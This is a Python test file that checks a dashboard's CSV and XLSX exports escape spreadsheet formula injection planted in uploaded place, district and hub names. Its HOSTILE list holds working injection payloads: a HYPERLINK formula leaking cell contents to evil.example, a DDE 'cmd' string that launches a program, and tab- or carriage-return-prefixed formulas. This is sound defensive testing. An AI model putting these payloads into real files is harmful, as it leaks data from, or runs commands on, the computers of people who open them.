"""No export writes a cell that a spreadsheet would run: names come from uploaded files.

A copy of the demo pack gets hostile place, district, hub and footprint names (formulas, a
HYPERLINK that leaks cells, tabs); every CSV and XLSX the CLI and the web downloads can write is
opened and every text cell checked. Numbers must stay numbers.
"""

from __future__ import annotations

import csv
import io
import shutil
import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook

from conftest import DEMO
from dashboard.cli import main
from dashboard.data.loader import load_pack
from dashboard.exports import (
    FORMULA_STARTS,
    allocation_export,
    hub_export,
    overlap_export,
    scenario_export,
)

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=2+2", "=cmd"]


@pytest.fixture(scope="module")
def hostile_pack(tmp_path_factory):
    pack = tmp_path_factory.mktemp("hostile") / "pack"
    shutil.copytree(DEMO, pack)
    for name, column in (("places.csv", "place_name"), ("districts.csv", "district_name"),
                         ("hubs.csv", "name")):
        frame = pd.read_csv(pack / name, dtype=str, keep_default_na=False)
        names = sorted(set(frame[column]))
        evil = {n: f"{HOSTILE[i % len(HOSTILE)]} {i}" for i, n in enumerate(names)}
        frame[column] = frame[column].map(evil)
        frame.to_csv(pack / name, index=False, quoting=csv.QUOTE_ALL)
    return pack


def _cells_csv(data: bytes) -> list[str]:
    frame = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False, header=None)
    return [v for v in frame.to_numpy().ravel() if isinstance(v, str)]


def _cells_xlsx(data: bytes) -> tuple[list, int]:
    book = load_workbook(io.BytesIO(data))
    cells, numbers = [], 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cells.append(("FORMULA", cell.value))
                elif isinstance(cell.value, str):
                    cells.append(cell.value)
                elif isinstance(cell.value, (int, float)):
                    numbers += 1
    return cells, numbers


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _assert_inert(cells: list, where: str) -> None:
    live = [c for c in cells if isinstance(c, tuple)
            or (c.startswith(FORMULA_STARTS) and not _number(c))]
    assert not live, f"{where}: live cells {live[:3]}"
    assert any(c.startswith("'=") or c.startswith("'+") for c in cells), \
        f"{where}: the hostile names did not reach this export at all"


def _check(name: str, data: bytes) -> None:
    if name.endswith(".xlsx"):
        assert zipfile.is_zipfile(io.BytesIO(data))
        cells, numbers = _cells_xlsx(data)
        assert numbers > 0, f"{name}: numbers must stay numbers"
    else:
        cells = _cells_csv(data)
    _assert_inert(cells, name)


@pytest.mark.parametrize("command", [
    ["overlaps", "--from", "places", "--to", "pcns"],
    ["overlaps", "--from", "districts", "--to", "places", "--method", "best-fit"],
    ["mismatch", "--from", "places", "--to", "districts"],
])
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_cli_exports_are_inert(hostile_pack, tmp_path, command, suffix):
    out = tmp_path / f"out{suffix}"
    assert main([*command, "--pack", str(hostile_pack), "--out", str(out)]) == 0
    _check(out.name, out.read_bytes())


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_cli_allocation_is_inert(hostile_pack, tmp_path, suffix):
    config = tmp_path / "allocate.toml"
    config.write_text('[[resources]]\nname = "early_help"\n')
    out = tmp_path / f"allocation{suffix}"
    assert main(["allocate", "--pack", str(hostile_pack), "--layer", "places", "--config",
                 str(config), "--out", str(out)]) == 0
    _check(out.name, out.read_bytes())


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_web_overlap_and_allocation_downloads_are_inert(hostile_pack, fmt):
    geo = load_pack(hostile_pack)
    name, data = overlap_export(geo, "places", "districts", "proportional", None, fmt)
    _check(name, data)
    name, data = allocation_export(geo, "places", geo.resources, geo.current_allocations, fmt)
    _check(name, data)


def test_web_scenario_and_hub_downloads_are_inert(hostile_pack):
    from dashboard.engine import drafts, hubplan
    from dashboard.web.hubs.state import HubSettings, measure
    from dashboard.web.redraw.state import Judging

    geo = load_pack(hostile_pack)
    draft = drafts.start(geo, "places")
    name, data = scenario_export(geo, draft, Judging("pcns", None, 10, "none").judge(geo, draft),
                                 '=HYPERLINK("x")', "csv")
    _check(name, data)
    plan = hubplan.start(geo)
    here, plan, result = measure(geo, plan.to_json(), None, HubSettings("places", None, None, "1, 2, 5"))
    for fmt in ("csv", "areas_csv", "xlsx"):
        name, data = hub_export(here, result, hubplan.changes(geo, plan), "=evil()", fmt)
        if fmt == "areas_csv":  # small areas carry hub names only as nearest_hub codes
            cells = _cells_csv(data)
            assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)]
            continue
        _check(name, data)


def test_a_downloaded_assignment_with_hostile_names_loads_back_unchanged(hostile_pack):
    from dashboard.data.assignments import read_assignment
    from dashboard.engine import drafts
    from dashboard.web.redraw.state import Judging

    geo = load_pack(hostile_pack)
    draft = drafts.start(geo, "places")
    _, data = scenario_export(geo, draft, Judging("pcns", None, 10, "none").judge(geo, draft), "x",
                              "csv")
    assignment, new = read_assignment(data, "scenario.csv", geo, draft)
    assert assignment == dict(draft.assignment) and new == {}
